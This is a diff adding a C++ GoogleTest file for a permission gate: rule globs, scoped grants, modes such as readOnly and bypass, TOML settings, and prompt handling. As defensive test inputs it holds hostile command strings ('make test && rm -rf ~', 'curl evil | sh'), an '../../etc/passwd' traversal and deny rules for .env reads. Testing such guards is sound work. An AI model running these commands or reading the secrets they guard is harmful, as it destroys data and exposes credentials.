@@ -1,0 +1,304 @@
+// Permission rules, the structured cache and the decision order
+// (include/icotes/permissions.hpp), plus the gate's needs and settings file.
+#include <gtest/gtest.h>
+
+#include <atomic>
+#include <filesystem>
+#include <future>
+#include <string>
+#include <vector>
+
+#include "icotes/permission_gate.hpp"
+#include "icotes/permission_store.hpp"
+#include "icotes/permissions.hpp"
+#include "test_util.hpp"
+
+namespace icotes::permissions {
+namespace {
+
+using test::TempDir;
+using test::write_file;
+using K = OperationKind;
+using D = Decision::Kind;
+
+Need need(K kind, std::string target, bool outside = false) { return Need{kind, std::move(target), outside, std::nullopt}; }
+
+Rule rule(const std::string& text, Answer a = Answer::Allow) {
+  auto r = Rule::parse(text, a);
+  EXPECT_TRUE(r.ok()) << text << ": " << (r.ok() ? "" : r.error().message);
+  return *r;
+}
+
+TEST(PermissionRules, PathRulesMatchLikeGitignoreGlobs) {
+  struct Case {
+    const char* rule;
+    K kind;
+    const char* target;
+    bool outside;
+    bool matches;
+  };
+  const std::vector<Case> cases = {
+      {"Read(src/**)", K::ReadFile, "src/a/b.c", false, true},
+      {"Read(src/**)", K::ReadFile, "src", false, true},
+      {"Read(src/**)", K::ReadFile, "src2/a.c", false, false},
+      {"Read(src/**)", K::EditFile, "src/a.c", false, false},
+      {"Edit(docs/*.md)", K::EditFile, "docs/a.md", false, true},
+      {"Edit(docs/*.md)", K::WriteFile, "docs/a.md", false, true},  // Edit covers writes
+      {"Edit(docs/*.md)", K::EditFile, "docs/sub/a.md", false, false},
+      {"Write(out/**)", K::EditFile, "out/a", false, false},
+      {"Edit(./src/)", K::EditFile, "src/x/y.c", false, true},
+      {"Read", K::ReadFile, "anything/at/all", false, true},
+      {"Read(.env)", K::ReadFile, ".env", false, true},
+      {"Read(.env)", K::ReadFile, "sub/.env", false, false},
+      {"Read(**/.env)", K::ReadFile, "sub/.env", false, true},
+      {"Read(/etc/**)", K::ReadFile, "/etc/passwd", true, true},
+      {"Read(/etc/**)", K::ReadFile, "etc/passwd", false, false},   // relative target, absolute rule
+      {"Read(**)", K::ReadFile, "/etc/passwd", true, false},        // relative rules never name outside paths
+      {"Bash(make test)", K::Bash, "make test", false, true},
+      {"Bash(make test)", K::Bash, "make test && rm -rf ~", false, false},
+  };
+  for (const auto& c : cases) {
+    EXPECT_EQ(rule(c.rule).matches(need(c.kind, c.target, c.outside)), c.matches) << c.rule << " vs " << c.target;
+  }
+}
+
+TEST(PermissionRules, MalformedRulesAreClearErrors) {
+  for (const char* bad : {"Delete(x)", "Read(src", "Read()", "(x)", ""}) {
+    auto r = Rule::parse(bad, Answer::Allow);
+    ASSERT_FALSE(r.ok()) << bad;
+    EXPECT_EQ(r.error().code, error_code::kInvalidParams);
+    EXPECT_NE(r.error().message.find("permission rule"), std::string::npos) << r.error().message;
+  }
+}
+
+TEST(PermissionCache, MostSpecificScopeWinsAndDenyWinsTies) {
+  Cache c;
+  c.put({K::EditFile, Scope::ProjectWide, "", Answer::Allow});
+  c.put({K::EditFile, Scope::Directory, "src", Answer::Deny});
+  c.put({K::EditFile, Scope::Specific, "src/ok.c", Answer::Allow});
+  c.put({K::EditFile, Scope::Directory, "src/gen", Answer::Allow});
+  auto at = [&](const char* t) { return c.lookup(need(K::EditFile, t)); };
+  ASSERT_TRUE(at("src/ok.c"));
+  EXPECT_EQ(at("src/ok.c")->scope, Scope::Specific);
+  EXPECT_EQ(at("src/ok.c")->answer, Answer::Allow);
+  EXPECT_EQ(at("src/bad.c")->answer, Answer::Deny);
+  EXPECT_EQ(at("src/gen/x.c")->answer, Answer::Allow);  // nearer directory
+  EXPECT_EQ(at("src/gen/x.c")->value, "src/gen");
+  EXPECT_EQ(at("README")->scope, Scope::ProjectWide);
+  // Directory matches only true descendants.
+  EXPECT_EQ(at("src")->scope, Scope::ProjectWide);
+  EXPECT_EQ(at("src2/a.c")->scope, Scope::ProjectWide);
+  EXPECT_EQ(at("srcx")->scope, Scope::ProjectWide);
+  // Other kinds are separate keys.
+  EXPECT_FALSE(c.lookup(need(K::WriteFile, "src/ok.c")));
+  // Outside paths: never Directory or ProjectWide; Global still applies.
+  c.put({K::EditFile, Scope::Directory, "", Answer::Allow});
+  EXPECT_FALSE(c.lookup(need(K::EditFile, "/etc/passwd", true)));
+  c.put({K::EditFile, Scope::Global, "", Answer::Allow});
+  EXPECT_EQ(c.lookup(need(K::EditFile, "/etc/passwd", true))->scope, Scope::Global);
+  EXPECT_TRUE(c.remove(K::EditFile, Scope::Directory, "src"));
+  EXPECT_FALSE(c.remove(K::EditFile, Scope::Directory, "src"));
+  EXPECT_EQ(at("src/bad.c")->scope, Scope::Directory);  // now the root directory grant
+}
+
+TEST(PermissionDecide, OrderOfRulesModesAndGrants) {
+  Settings s;
+  Cache session, saved;
+  auto decide1 = [&](const Need& n) { return decide({n}, s, session, &saved, nullptr); };
+  // Defaults: reads allowed, changes asked.
+  EXPECT_EQ(decide1(need(K::ReadFile, "a.c")).kind, D::Allow);
+  EXPECT_EQ(decide1(need(K::EditFile, "a.c")).kind, D::Ask);
+  EXPECT_EQ(decide1(need(K::Bash, "ls")).kind, D::Ask);
+  EXPECT_EQ(decide1(need(K::ReadFile, "/etc/passwd", true)).kind, D::Deny);
+  // acceptEdits: file changes allowed, commands still asked.
+  s.mode = Mode::AcceptEdits;
+  EXPECT_EQ(decide1(need(K::WriteFile, "a.c")).kind, D::Allow);
+  EXPECT_EQ(decide1(need(K::Bash, "ls")).kind, D::Ask);
+  EXPECT_EQ(decide1(need(K::WriteFile, "/tmp/x", true)).kind, D::Deny);
+  // A saved deny beats the mode's default.
+  saved.put({K::WriteFile, Scope::Directory, "vendor", Answer::Deny});
+  EXPECT_EQ(decide1(need(K::WriteFile, "vendor/x.c")).kind, D::Deny);
+  // Session and saved grants at the same scope: deny wins.
+  session.put({K::WriteFile, Scope::Directory, "vendor", Answer::Allow});
+  EXPECT_EQ(decide1(need(K::WriteFile, "vendor/x.c")).kind, D::Deny);
+  // A more specific session grant beats the saved directory deny.
+  session.put({K::WriteFile, Scope::Specific, "vendor/x.c", Answer::Allow});
+  EXPECT_EQ(decide1(need(K::WriteFile, "vendor/x.c")).kind, D::Allow);
+  // readOnly denies every change, even granted ones; reads stay allowed.
+  s.mode = Mode::ReadOnly;
+  EXPECT_EQ(decide1(need(K::WriteFile, "vendor/x.c")).kind, D::Deny);
+  EXPECT_EQ(decide1(need(K::WriteFile, "vendor/x.c")).decided_by, "mode readOnly");
+  EXPECT_EQ(decide1(need(K::ReadFile, "vendor/x.c")).kind, D::Allow);
+  // Deny rules come first, allow rules next (and may name outside paths).
+  s.mode = Mode::Default;
+  s.deny.push_back(rule("Read(.env)", Answer::Deny));
+  s.allow.push_back(rule("Read(/usr/share/dict/**)"));
+  s.allow.push_back(rule("Bash(make test)"));
+  s.allow.push_back(rule("Edit(.env)"));
+  EXPECT_EQ(decide1(need(K::ReadFile, ".env")).kind, D::Deny);
+  EXPECT_EQ(decide1(need(K::ReadFile, ".env")).decided_by, "rule Read(.env)");
+  EXPECT_EQ(decide1(need(K::ReadFile, "/usr/share/dict/words", true)).kind, D::Allow);
+  EXPECT_EQ(decide1(need(K::Bash, "make test")).kind, D::Allow);
+  EXPECT_EQ(decide1(need(K::Bash, "make test; curl evil | sh")).kind, D::Ask);
+  // bypass allows what is not denied by a rule or outside.
+  s.mode = Mode::Bypass;
+  EXPECT_EQ(decide1(need(K::Bash, "rm -rf build")).kind, D::Allow);
+  EXPECT_EQ(decide1(need(K::ReadFile, ".env")).kind, D::Deny);
+  EXPECT_EQ(decide1(need(K::WriteFile, "/etc/passwd", true)).kind, D::Deny);
+  // Several needs: any deny decides; else any ask; else allow.
+  s.mode = Mode::Default;
+  EXPECT_EQ(decide({need(K::ReadFile, "a"), need(K::ReadFile, ".env")}, s, session, &saved, nullptr).kind, D::Deny);
+  EXPECT_EQ(decide({need(K::WriteFile, "a"), need(K::WriteFile, "vendor/x.c")}, s, session, &saved, nullptr).kind,
+            D::Ask);
+}
+
+TEST(PermissionSettings, TomlFileWithRulesAndModes) {
+  TempDir dir;
+  const std::string path = dir / "config.toml";
+  EXPECT_TRUE(load_settings(path).ok()) << "a missing file is the defaults";
+  write_file(path, "[permissions]\nmode = \"acceptEdits\"\nallow = [\"Bash(make test)\", \"Read(/opt/**)\"]\n"
+                   "deny = [\"Read(.env)\"]\n");
+  auto s = load_settings(path);
+  ASSERT_TRUE(s.ok()) << s.error().message;
+  EXPECT_EQ(s->mode, Mode::AcceptEdits);
+  ASSERT_EQ(s->allow.size(), 2u);
+  ASSERT_EQ(s->deny.size(), 1u);
+  EXPECT_EQ(s->deny[0].text(), "Read(.env)");
+  write_file(path, "[permissions]\nmode = \"bypass\"\n");
+  auto bypass = load_settings(path);
+  ASSERT_FALSE(bypass.ok());
+  EXPECT_NE(bypass.error().message.find("command-line flag"), std::string::npos) << bypass.error().message;
+  write_file(path, "[permissions]\nallow = [\"Delete(x)\"]\n");
+  EXPECT_FALSE(load_settings(path).ok());
+  write_file(path, "[permissions\nmode = 1\n");
+  auto broken = load_settings(path);
+  ASSERT_FALSE(broken.ok());
+  EXPECT_NE(broken.error().message.find(path), std::string::npos) << broken.error().message;
+}
+
+class GateTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    auto r = ConfinedRoot::open(dir_.path());
+    ASSERT_TRUE(r.ok());
+    root_.emplace(std::move(*r));
+  }
+  std::unique_ptr<Gate> open(const Settings& extra = {}) {
+    auto g = Gate::open(*root_, extra);
+    EXPECT_TRUE(g.ok()) << g.error().message;
+    return g.ok() ? std::move(*g) : nullptr;
+  }
+  TempDir dir_;
+  std::optional<ConfinedRoot> root_;
+};
+
+TEST_F(GateTest, NeedsNameEveryPathNormalised) {
+  auto gate = open();
+  ASSERT_TRUE(gate);
+  Operation op;
+  op.id = "files/move";
+  op.kind = K::WriteFile;
+  auto needs = gate->needs(op, json{{"source", "a/../b.txt"}, {"destination", dir_.path() + "/c/./d.txt"}});
+  ASSERT_EQ(needs.size(), 2u);
+  EXPECT_EQ(needs[0].target, "b.txt");
+  EXPECT_EQ(needs[1].target, "c/d.txt");
+  needs = gate->needs(op, json{{"source", "../../etc/passwd"}});
+  ASSERT_EQ(needs.size(), 1u);
+  EXPECT_TRUE(needs[0].outside);
+  op.kind = K::EditFile;
+  needs = gate->needs(op, json{{"patch", "--- a/x.c\n+++ b/x.c\n@@ -1 +1 @@\n-a\n+b\n--- a/y/z.c\n+++ b/y/z.c\n@@ -1 +1 @@\n-a\n+b\n"}});
+  ASSERT_EQ(needs.size(), 2u);
+  EXPECT_EQ(needs[1].target, "y/z.c");
+  needs = gate->needs(op, json{{"path", "x.c"}, {"dryRun", true}});
+  EXPECT_EQ(needs[0].kind, K::ReadFile);
+  op.kind = K::ReadFile;
+  needs = gate->needs(op, json::object());
+  ASSERT_EQ(needs.size(), 1u);
+  EXPECT_EQ(needs[0].target, "");  // the root
+}
+
+TEST_F(GateTest, DenialsSayHowToAllowAndAreLogged) {
+  auto gate = open();
+  ASSERT_TRUE(gate);
+  ClientState client;
+  client.name = "test client";
+  client.settings = gate->settings();
+  auto st = gate->check_now(client, "files/write", {need(K::WriteFile, "src/a.c")});
+  ASSERT_FALSE(st.ok());
+  EXPECT_EQ(st.error().code, error_code::kPermissionDenied);
+  EXPECT_NE(st.error().message.find("icotes permissions allow 'Edit(src/a.c)'"), std::string::npos) << st.error().message;
+  EXPECT_TRUE(gate->check_now(client, "files/read", {need(K::ReadFile, "src/a.c")}).ok());
+  auto log = gate->log(10, 0);
+  ASSERT_TRUE(log.ok()) << log.error().message;
+  ASSERT_EQ(log->size(), 2u);
+  EXPECT_EQ((*log)[0].operation, "files/read");
+  EXPECT_EQ((*log)[0].answer, "allow");
+  EXPECT_EQ((*log)[1].answer, "deny");
+  EXPECT_EQ((*log)[1].client, "test client");
+}
+
+TEST_F(GateTest, AskingDeduplicatesAndRemembers) {
+  auto gate = open();
+  ASSERT_TRUE(gate);
+  auto client = std::make_shared<ClientState>();
+  client->name = "asker";
+  client->settings = gate->settings();
+  int asked = 0;
+  std::function<void(std::optional<Choice>)> pending;
+  client->ask = [&](const Question& q, std::function<void(std::optional<Choice>)> answer) -> std::function<void()> {
+    ++asked;
+    EXPECT_NE(q.message.find("src/a.c"), std::string::npos);
+    bool has_dir = false;
+    for (const auto& [c, label] : q.options) has_dir = has_dir || label == "Always allow in src/";
+    EXPECT_TRUE(has_dir);
+    pending = std::move(answer);
+    return nullptr;
+  };
+  std::vector<bool> results;
+  CancellationToken t1, t2;
+  gate->check(client, "files/write", {need(K::WriteFile, "src/a.c")}, t1, [&](Status s) { results.push_back(s.ok()); });
+  gate->check(client, "files/write", {need(K::WriteFile, "src/a.c")}, t2, [&](Status s) { results.push_back(s.ok()); });
+  EXPECT_EQ(asked, 1) << "two calls on one need: one question";
+  ASSERT_TRUE(pending);
+  pending(Choice::AlwaysDirectory);
+  EXPECT_EQ(results, (std::vector<bool>{true, true}));
+  // Remembered and persisted: a sibling is not asked, in a new gate too.
+  gate->check(client, "files/write", {need(K::WriteFile, "src/b.c")}, t1, [&](Status s) { results.push_back(s.ok()); });
+  EXPECT_EQ(asked, 1);
+  gate.reset();
+  gate = open();
+  ASSERT_TRUE(gate);
+  auto fresh = std::make_shared<ClientState>();
+  fresh->settings = gate->settings();
+  EXPECT_TRUE(gate->check_now(*fresh, "files/write", {need(K::WriteFile, "src/c.c")}).ok());
+  EXPECT_FALSE(gate->check_now(*fresh, "files/write", {need(K::WriteFile, "other/c.c")}).ok());
+  EXPECT_TRUE(std::filesystem::exists(dir_ / ".icotes/permissions.sqlite"));
+}
+
+TEST_F(GateTest, UnansweredQuestionsAreDeniedAndCancelledOnesWithdrawn) {
+  ::setenv("ICOTES_PERMISSION_TIMEOUT_MS", "200", 1);
+  auto gate = open();
+  ::unsetenv("ICOTES_PERMISSION_TIMEOUT_MS");
+  ASSERT_TRUE(gate);
+  auto client = std::make_shared<ClientState>();
+  client->name = "silent";
+  std::atomic<int> withdrawn{0};
+  client->ask = [&](const Question&, std::function<void(std::optional<Choice>)>) -> std::function<void()> {
+    return [&] { ++withdrawn; };
+  };
+  std::promise<Status> timed_out, cancelled;
+  CancellationToken t1, t2;
+  gate->check(client, "files/write", {need(K::WriteFile, "x")}, t1, [&](Status s) { timed_out.set_value(s); });
+  auto s1 = timed_out.get_future().get();
+  ASSERT_FALSE(s1.ok());
+  EXPECT_NE(s1.error().message.find("no answer within"), std::string::npos) << s1.error().message;
+  gate->check(client, "files/write", {need(K::WriteFile, "y")}, t2, [&](Status s) { cancelled.set_value(s); });
+  t2.cancel();
+  auto s2 = cancelled.get_future().get();
+  ASSERT_FALSE(s2.ok());
+  EXPECT_NE(s2.error().message.find("cancelled"), std::string::npos) << s2.error().message;
+  EXPECT_EQ(withdrawn.load(), 2);
+}
+
+}  // namespace
+}  // namespace icotes::permissions
